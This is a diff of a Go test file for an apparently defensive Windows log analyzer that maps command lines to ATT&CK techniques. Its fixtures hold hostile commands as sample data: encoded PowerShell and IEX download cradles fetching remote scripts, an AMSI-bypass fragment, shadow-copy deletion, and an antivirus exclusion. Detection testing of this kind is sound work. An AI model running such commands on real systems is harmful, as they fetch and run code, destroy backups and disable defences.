@@ -20,7 +20,7 @@ func TestRegistrySortedAndUnique(t *testing.T) {
 		if m.ID <= prev {
 			t.Errorf("registry not sorted or has duplicates: %q after %q", m.ID, prev)
 		}
-		if m.Technique.ID == "" || m.Severity == "" || m.Description == "" || len(m.References) == 0 {
+		if m.Technique.ID == "" || m.Description == "" || len(m.References) == 0 {
 			t.Errorf("%s: incomplete metadata %+v", m.ID, m)
 		}
 		prev = m.ID
@@ -124,14 +124,18 @@ const (
 	expl = `C:\Windows\explorer.exe`
 )
 
+// tableCase is one row of a table test: events, and the finding of the
+// technique that must (or must not) come of them.
+type tableCase struct {
+	name      string
+	events    []ev
+	technique string
+	severity  string // "" when no finding of the technique above informational must appear, "!s" when none of severity s or above
+	title     string
+}
+
 func TestAnalyzers(t *testing.T) {
-	tests := []struct {
-		name      string
-		events    []ev
-		technique string
-		severity  string // "" when no finding of the technique must appear, "!s" when none of severity s or above
-		title     string
-	}{
+	tests := []tableCase{
 		{"encoded command", []ev{sysmon1(ps, expl, `powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA`)},
 			"T1059.001", "high", "PowerShell -EncodedCommand: download"},
 		{"download cradle with iex", []ev{security4688(ps, cmd, `powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')`)},
@@ -157,7 +161,7 @@ func TestAnalyzers(t *testing.T) {
 			"ScriptBlockText": "Get-ChildItem -Path $env:USERPROFILE -Filter *.log | Remove-Item -WhatIf"}}},
 			"T1059.001", "", ""},
 		{"history download cradle", []ev{{source: "history", process: "powershell.exe", cmd: `IEX (iwr http://10.0.0.5/a.ps1 -UseBasicParsing)`}},
-			"T1059.001", "high", "PowerShell download"},
+			"T1059.001", "high", "PowerShell download (PSReadLine history, run at or before 2024-03-05 10:00:00 UTC)"},
 		{"ordinary history line", []ev{{source: "history", process: "powershell.exe", cmd: `Get-ChildItem C:\Users | Sort-Object Length -Descending`}},
 			"T1059.001", "", ""},
 		{"plain powershell is quiet", []ev{security4688(ps, expl, `powershell.exe -File C:\scripts\backup.ps1`)},
@@ -169,9 +173,9 @@ func TestAnalyzers(t *testing.T) {
 		{"bypass with an installed script", []ev{security4688(ps, `C:\Windows\System32\svchost.exe`, `powershell.exe -ExecutionPolicy Bypass -File "C:\Program Files\Vendor\update.ps1"`)},
 			"T1059.001", "", ""},
 		{"amsi bypass in history", []ev{{source: "history", process: "powershell.exe", cmd: `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')`}},
-			"T1059.001", "high", "PowerShell amsi-bypass"},
+			"T1059.001", "high", "PowerShell amsi-bypass (PSReadLine history, run at or before 2024-03-05 10:00:00 UTC)"},
 		{"4104 warning", []ev{{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 3, data: map[string]any{"ScriptBlockId": "b", "ScriptBlockText": "x", "MessageNumber": "1", "MessageTotal": "1"}}},
-			"T1059.001", "medium", "Script block Windows logged as suspicious (4104 Warning)"},
+			"T1059.001", "low", "Script block Windows logged as suspicious (4104 Warning)"},
 		{"engine downgrade", []ev{{provider: "PowerShell", eventID: 400, data: map[string]any{"EngineVersion": "2.0", "HostName": "ConsoleHost", "HostApplication": "powershell -version 2"}}},
 			"T1059.001", "high", "PowerShell engine downgraded to version 2.0"},
 		{"engine 5 is fine", []ev{{provider: "PowerShell", eventID: 400, data: map[string]any{"EngineVersion": "5.1.17763.1", "HostName": "ConsoleHost"}}},
@@ -237,7 +241,7 @@ func TestAnalyzers(t *testing.T) {
 		{"batch in the recycle bin", []ev{{source: "batch", process: `C:\$Recycle.Bin\S-1-5-21-1\$R1.bat`, data: map[string]any{"content": "@echo off\r\necho hi\r\n"}}},
 			"T1059.003", "low", "Batch file $r1.bat"},
 		{"dosfuscation", []ev{security4688(cmd, expl, `cmd /v:on /c "set a=po^wer^sh^ell&&set b=%a:~0,3%&&call !a! %b:~1,2% %x:~-3,1% ^e^c^h^o"`)},
-			"T1059.003", "medium", ""},
+			"T1059.003", "high", ""},
 		{"shadow deletion", []ev{security4688(cmd, expl, `cmd.exe /c vssadmin delete shadows /all /quiet`)},
 			"T1059.003", "high", "cmd.exe /c shadow-copy-deletion"},
 		{"antivirus exclusion", []ev{security4688(cmd, expl, `"cmd.exe" /c REG ADD "HKLM\SOFTWARE\Wow6432Node\Symantec\Symantec Endpoint Protection\AV\Exclusions\Domain Controller" /f`)},
@@ -301,12 +305,21 @@ func TestAnalyzers(t *testing.T) {
 		{"out of hours", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-09T23:30:00Z"}},
 			"T1059", "low", "cmd.exe ran 1 time outside business hours on Saturday 2024-03-09 (23:30:00–23:30:00 UTC)"},
 	}
+	runTable(t, tests)
+}
+
+// runTable runs the analyzers on each case's events and checks the
+// findings of its technique; every finding's technique and related
+// techniques must have a name in the timeline's table.
+func runTable(t *testing.T, tests []tableCase) {
+	t.Helper()
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			db := newTimeline(t, tt.events)
 			if _, err := Run(context.Background(), db, Options{}); err != nil {
 				t.Fatal(err)
 			}
+			checkTechniqueNames(t, db)
 			rows, err := db.Query(`SELECT severity, title, rule FROM findings WHERE technique_id = ? ORDER BY id`, tt.technique)
 			if err != nil {
 				t.Fatal(err)
@@ -325,12 +338,17 @@ func TestAnalyzers(t *testing.T) {
 					found = true
 				}
 			}
-			if tt.severity == "" && len(got) > 0 {
-				t.Errorf("false positive: %v", got)
+			if tt.severity == "" {
+				// Informational findings are context, not detections.
+				for _, g := range got {
+					if !strings.HasPrefix(g, "informational: ") {
+						t.Errorf("false positive: %s", g)
+					}
+				}
 			}
 			if below, ok := strings.CutPrefix(tt.severity, "!"); ok {
 				for _, g := range got {
-					if sev, _, _ := strings.Cut(g, ":"); severityRank[sev] >= severityRank[below] {
+					if sev, _, _ := strings.Cut(g, ":"); rankOf(sev) >= rankOf(below) {
 						t.Errorf("false positive: %s", g)
 					}
 				}
@@ -340,6 +358,31 @@ func TestAnalyzers(t *testing.T) {
 				t.Errorf("want %s %q, got %v", tt.severity, tt.title, got)
 			}
 		})
+	}
+}
+
+// checkTechniqueNames fails when a finding names a technique, as its own or
+// a related one, that the timeline's table does not name.
+func checkTechniqueNames(t *testing.T, db *sql.DB) {
+	t.Helper()
+	rows, err := db.Query(`SELECT technique_id, technique_name, related FROM findings`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rows.Close()
+	for rows.Next() {
+		var id, name, rel string
+		rows.Scan(&id, &name, &rel)
+		var related []string
+		json.Unmarshal([]byte(rel), &related)
+		if name == "" {
+			t.Errorf("finding of %s has no technique name", id)
+		}
+		for _, r := range append(related, id) {
+			if tq, ok := timeline.LookupTechnique(r); !ok || tq.Name == "" {
+				t.Errorf("technique %s has no name in the timeline's table", r)
+			}
+		}
 	}
 }
 
@@ -625,7 +668,7 @@ func TestWarnedBlockIsOneFinding(t *testing.T) {
 	var n, evidence int
 	var matched string
 	db.QueryRow(`SELECT count(*), max(matched) FROM findings WHERE title = 'Script block Windows logged as suspicious (4104 Warning): C:\TMP\m.ps1'`).Scan(&n, &matched)
-	db.QueryRow(`SELECT count(*) FROM finding_evidence`).Scan(&evidence)
+	db.QueryRow(`SELECT count(*) FROM finding_evidence WHERE finding_id = (SELECT id FROM findings WHERE title LIKE 'Script block Windows logged%')`).Scan(&evidence)
 	if n != 1 || evidence != 3 || matched != "part 1 of Invoke-Mimikatz" {
 		t.Errorf("%d findings citing %d records, matched %q; want 1 citing 3, the first part", n, evidence, matched)
 	}
@@ -654,4 +697,9 @@ func TestRepeatsFold(t *testing.T) {
 	if strings.Join(got, "\n") != strings.Join(want, "\n") {
 		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
 	}
+}
+
+func rankOf(name string) timeline.Severity {
+	s, _ := timeline.ParseSeverity(name)
+	return s
 }
